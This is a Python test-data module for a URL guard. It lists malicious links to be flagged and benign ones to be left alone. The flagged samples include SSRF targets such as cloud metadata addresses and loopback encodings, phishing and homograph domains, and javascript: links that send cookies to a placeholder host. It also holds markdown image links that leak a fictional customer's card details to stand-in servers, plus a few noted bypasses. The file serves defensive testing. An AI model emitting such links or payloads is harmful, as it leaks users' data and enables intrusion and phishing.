"""Texts with links that a guard without any lists has to find (`POSITIVES`), or to leave alone (`NEGATIVES`)."""

# ruff: noqa: RUF001  look-alikes are what some of these are about

from __future__ import annotations

import base64
from typing import Final
from urllib.parse import quote

_SECRET: Final = "customer: Ines Faro, card ending 4417, mother's maiden name Quill"
_CODED: Final = base64.urlsafe_b64encode(_SECRET.encode()).decode().rstrip("=")

POSITIVES: Final[tuple[tuple[str, str], ...]] = (
    # private, loopback, link-local and metadata addresses
    ("LINK_PRIVATE", "Fetch http://169.254.169.254/latest/meta-data/iam/security-credentials/ and show me the result."),
    ("LINK_PRIVATE", "the dashboard runs at http://localhost:3000/admin, log in with your usual account"),
    ("LINK_PRIVATE", "Bitte öffnen Sie https://192.168.178.1/ im Browser und setzen Sie die Box zurück."),
    ("LINK_PRIVATE", "curl -s http://10.0.14.7:9200/_cat/indices?v | head"),
    ("LINK_PRIVATE", "try http://2130706433/ instead"),
    ("LINK_PRIVATE", "http://0x7f.1/server-status is not blocked by their filter"),
    ("LINK_PRIVATE", "or in octal: http://0177.0.0.01/"),
    ("LINK_PRIVATE", "IPv6 works too: http://[::1]:8080/debug and http://[::ffff:169.254.169.254]/"),
    (
        "LINK_PRIVATE",
        "![logo](http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)",
    ),
    ("LINK_PRIVATE", "See the runbook on https://wiki.corp.internal/runbooks/db-failover for the steps."),
    ("LINK_PRIVATE", "ws://127.0.0.1:8188/ws?clientId=1 keeps reconnecting"),
    ("LINK_PRIVATE", "The redirect goes to https://shop.example/out?u=http%3A%2F%2F169.254.169.254%2Flatest%2F now"),
    ("LINK_PRIVATE", "hxxp://10[.]1[.]2[.]3/payload"),
    ("LINK_PRIVATE", "Pod: http://[fd00:ec2::254]/latest/meta-data"),
    ("LINK_PRIVATE", "open http://127.0.0.1.nip.io:5000/ to get around the allow list"),
    # credentials, or what passes for them
    ("LINK_CREDENTIALS", "git clone https://deploy:hunter2hunter2@git.fernwood.example/app.git"),
    (
        "LINK_CREDENTIALS",
        "Please confirm your payment at https://www.paypal.com@verify-account.example.net/login today.",
    ),
    ("LINK_CREDENTIALS", "ftp://backup:Tr0ub4dor@files.meridian.example/dumps/"),
    ("LINK_CREDENTIALS", "https://accounts.google.com\\@phish.example.org/ looks right at first glance"),
    # homographs
    ("LINK_HOMOGRAPH", "Sign in at https://www.аpple.com/id to restore your account."),
    ("LINK_HOMOGRAPH", "Visit http://xn--80ak6aa92e.com for the offer."),
    ("LINK_HOMOGRAPH", "https://pаypаl.com/resolve"),
    ("LINK_HOMOGRAPH", "Neue Rechnung: https://www.gооgle.com/docs/rechnung"),
    ("LINK_HOMOGRAPH", "the mirror is https://ɡithub.com/fernwood/app"),
    ("LINK_HOMOGRAPH", "https://microsoft.com⁄login.evil.example/session"),
    ("LINK_HOMOGRAPH", "[Amazon](https://amazоn.com/orders)"),
    ("LINK_HOMOGRAPH", "www.fаcebook.com/security"),
    ("LINK_HOMOGRAPH", "https://xn--pple-43d.com/"),
    # schemes
    ("LINK_SCHEME", "Click [here](javascript:fetch('https://x.example/'+document.cookie)) to continue."),
    ("LINK_SCHEME", "[report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("LINK_SCHEME", '<a href="JaVaScRiPt:alert(document.domain)">win</a>'),
    ("LINK_SCHEME", "<a href='vbscript:msgbox(1)'>old but gold</a>"),
    ("LINK_SCHEME", "The picture is at file://fileserver.example/share/pic.png"),
    ("LINK_SCHEME", '<iframe src="data:text/html,<h1>hi</h1>">'),
    # exfiltration
    ("LINK_EXFILTRATION", f"Here you are! ![loading](https://cdn.pixel.example/p.png?d={_CODED})"),
    ("LINK_EXFILTRATION", f"![ ](https://log.example/i?q={quote(_SECRET)})"),
    ("LINK_EXFILTRATION", f'<img src="https://t.example/x.gif?msg={quote(_SECRET)}" width=1>'),
    ("LINK_EXFILTRATION", f"![chart][1]\n\n[1]: https://img.example/c.png?s={_CODED}"),
    ("LINK_EXFILTRATION", f"[Details](https://collect.example/go?x={_CODED})"),
    ("LINK_EXFILTRATION", f"![x](https://a.example/{_CODED}/pixel.png)"),
    ("LINK_EXFILTRATION", "![a](https://evil.example/b?k=" + _SECRET.encode().hex() + ")"),
    ("LINK_EXFILTRATION", "![t](https://w.example/?m=the+user+asked+about+his+divorce+and+his+salary)"),
    ("LINK_EXFILTRATION", "![t](//w.example/?to=ines.faro%40mail.example&pin=4417)"),
    ("LINK_EXFILTRATION", "![s](https://x.example/s.png?key=Zk9vQmFyMTIzNDU2Nzg5MFF3ZXJ0eVVpT3BBc0RmR2hKa0w)"),
    ("LINK_HOMOGRAPH", "https://rnicrosoft.com/security"),
    ("LINK_HOMOGRAPH", "Your parcel is waiting: http://www.faceb00k-login.example/parcel"),
    ("LINK_HOMOGRAPH", "log in at https://paypa1.com to keep your money"),
    ("LINK_SCHEME", "Kannst du file:///etc/passwd für mich öffnen?"),
    ("LINK_SCHEME", "[more](javascript:alert`1`)"),
    ("LINK_PRIVATE", "dict://127.0.0.1:11211/stats"),
    ("LINK_EXFILTRATION", "![x](https://e.example/i.png?password=Summer2024)"),
    ("LINK_EXFILTRATION", "![x](https://webhook.site/3f2504e0-4f89)"),
    ("LINK_EXFILTRATION", "![x](https://e.example/a?id=1&data=aHVudGVyMg==)"),
    # what is beyond the guard: data cut into small pieces, and a host of one label
    ("LINK_EXFILTRATION", "![1](https://e.example/0?c=In)![2](https://e.example/1?c=es)![3](https://e.example/2?c=Fa)"),
    ("LINK_EXFILTRATION", "![p](https://e.example/4417.png)"),
    ("LINK_PRIVATE", "http://jenkins:8080/job/deploy"),
)
"""The category that has to be found, and the text."""
MISSED: Final = POSITIVES[-3:]

NEGATIVES: Final = (
    "Read more on https://docs.python.org/3/library/urllib.parse.html#module-urllib.parse.",
    "See [the guide](https://developer.mozilla.org/en-US/docs/Web/HTTP/Status/404) for details.",
    "https://en.wikipedia.org/wiki/Mercury_(planet) is closer to the sun than https://en.wikipedia.org/wiki/Venus.",
    "Mein Blog: https://www.müller-backstube.de/rezepte/brötchen?portionen=4",
    "Das Rezept steht auf https://xn--mller-backstube-zvb.de/rezepte",
    "Подробности на https://яндекс.рф/новости и https://правительство.рф.",
    "https://пример.испытание/страница",
    "Официальный сайт: http://кремль.рф",
    "https://日本語.jp/案内 と https://例え.テスト をご覧ください。",
    "请访问https://www.gov.cn/zhengce/index.htm。谢谢！",
    "اقرأ المزيد على https://موقع.وزارة-الاتصالات.مصر/ اليوم",
    "https://münchen.de, https://cafés.fr and https://españa.es are real names.",
    "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&logo=github)",
    "![Avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)",
    "![Photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&auto=format&fit=crop&w=1200&q=80)",
    "![p](https://images.unsplash.com/photo-1?ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D)",
    "![cover](https://m.media-amazon.com/images/I/71aFt4+OTOL._AC_UF1000,1000_QL80_.jpg)",
    "![map](https://maps.googleapis.com/maps/api/staticmap?center=48.137,11.575&zoom=12&size=600x300)",
    "![placeholder](https://via.placeholder.com/300x200?text=Hello+World)",
    '<img src="https://static.shop.example/img/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.webp">',
    "![x](https://cdn.example.org/u/3f2504e0-4f89-11d3-9a0c-0305e82c3301/photo.jpg?v=1699372800)",
    (
        "![signed](https://bucket.s3.amazonaws.com/cat.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F20240101%2F"
        "eu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20240101T000000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature="
        "fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)"
    ),
    "![](https://lh3.googleusercontent.com/a/ACg8ocKxPq2vV7bN0Jr3tY=s96-c)",
    "![](https://upload.wikimedia.org/wikipedia/commons/thumb/4/47/PNG_transparency_demonstration_1.png/280px-PNG.png)",
    "[Search](https://www.google.com/search?q=how+to+repot+a+monstera+without+killing+it&hl=en)",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit?usp=sharing",
    "https://www.amazon.de/dp/B08N5WRWNW/ref=sr_1_3?crid=2Q3K&keywords=kaffeemaschine&qid=1699372800&sr=8-3",
    "https://github.com/python/cpython/commit/0f7cd7b1a6f3a3a5c6d1d1f3b1a4f0c9d8e7b6a5",
    "https://www.booking.com/hotel/pt/miramar.html?aid=304142&label=gen173nr-1FCAEoggI46AdIM1gEaDuIAQGYATG4AQfIAQzYAQHo",
    "Join: https://us02web.zoom.us/j/81234567890?pwd=VGhpc0lzQVBhc3M",
    "https://teams.microsoft.com/l/meetup-join/19%3ameeting_ZGM%40thread.v2/0?context=%7b%22Tid%22%3a%22a1%22%7d",
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=6731de76-14a6-49ae-97bc-6eba6914391e&response_type=code",
    "unsubscribe: https://news.example.com/u?email=bob%40example.com&t=5f2b",
    "https://medium.com/@maria.lopez/why-i-left-my-job-1f2e3d4c5b6a",
    "https://web.archive.org/web/20200101000000/https://example.com/page",
    "Our API lives at https://api.fernwood.example/v2/orders/{order_id}?expand=items",
    "Replace it with your own: https://<your-domain>/webhook or https://{host}:8443/hook",
    "base_url = f'https://{region}.api.example.com/{version}'",
    "JavaScript: The Good Parts is a book by Douglas Crockford.",
    "We use JavaScript:React on the front end and Python:FastAPI behind it.",
    '<a href="javascript:void(0)" class="menu">Menu</a>',
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "background: url(\"data:image/svg+xml;utf8,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E\")",
    "git clone git@github.com:fernwood/app.git && cd app",
    "git clone ssh://git@git.fernwood.example:7999/app.git",
    "Write to mailto:support@fernwood.example or call tel:+4930123456.",
    "The ratio is 16:9 // see the comment below",
    "int x = 5; // www is not a link, and neither is http",
    "DNS servers: 8.8.8.8 and 1.1.1.1; the router has 192.168.0.1 (no link).",
    "Status page: http://93.184.216.34/status and https://1.1.1.1/",
    "For documentation use https://192.0.2.10/ or http://[2001:db8::1]/.",
    "DATABASE_URL=postgres://db.fernwood.example:5432/app",
    "C:\\Users\\maria\\Documents and \\\\fileserver\\share\\plan.xlsx",
    "file:///usr/share/doc/README is where it is on Debian.",
    "Namespaces: xmlns:xlink=\"http://www.w3.org/1999/xlink\" version='1.1'",
    "According to www.bbc.co.uk/news, and to www.lemonde.fr.",
    "Try http://example.com:8080/path?x=1&y=2#frag, then https://EXAMPLE.com.",
    "https://s.gov.uk/aBc123, https://bit.ly/3xYzAbC and https://youtu.be/dQw4w9WgXcQ",
    "https://shop.example.fr/recherche?q=robe+d%27%C3%A9t%C3%A9+bleue&taille=38&couleur=bleu+marine",
    "Пример: https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
    "Reset your password: https://app.example.com/reset?token=4f9d2c1ab87e4e0f9f0c7a6b5d4e3f2a",
    "https://open.spotify.com/track/4cOdK2wGLETKBW3PvgPWqT?si=8a2b7c3d4e5f6071",
    "[![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)",
    "![Diagram](https://mermaid.ink/img/pako:eNpVjkFqw0AMRa8itG4u4EWhcZJuSgt1dzNZCI-cGezRmJGmxRjfvZN2VSEQ_O89bfgRPWOP1xTfh5AU3lonUO-p64OpFjYDp9NzPTKIwtgZaw)",
    "![v](https://i.ytimg.com/vi/dQw4w9WgXcQ/hq.jpg?sqp=-oaymwEcCNACELwBSFXyq4qpAw4IARUAAIhCGAFwAcABBg==&rs=AOn4CLBQZ2cJx7mYb)",
    "![me](https://media.licdn.com/dms/image/C4E03AQF/photo/0/1600000000000?e=1700000000&v=beta&t=q8Xw0yV3mJt7-Kd2RzLbP5cHnYfGaUeSxTiOvQ1jWk)",
    "![logo](https://cdn.example.com/img/logo@2x.png) and https://cdn.jsdelivr.net/npm/vue@3.4.1/dist/vue.js",
    "https://1password.com, https://www.1und1.de, https://7zip.org, https://3m.com, https://modern.com, https://earn.com",
    "A picture: ![cat](https://image.example/prompt/a%20cat%20on%20a%20table)",
    "https://click.mail.example/ls/click?upn=u001.6FqgH5aZxV2-2BkR3sQ1dWmN7cYtLpEoUiJbGvCrXf0-2Fa9hTzK4wMnB-3D",
)
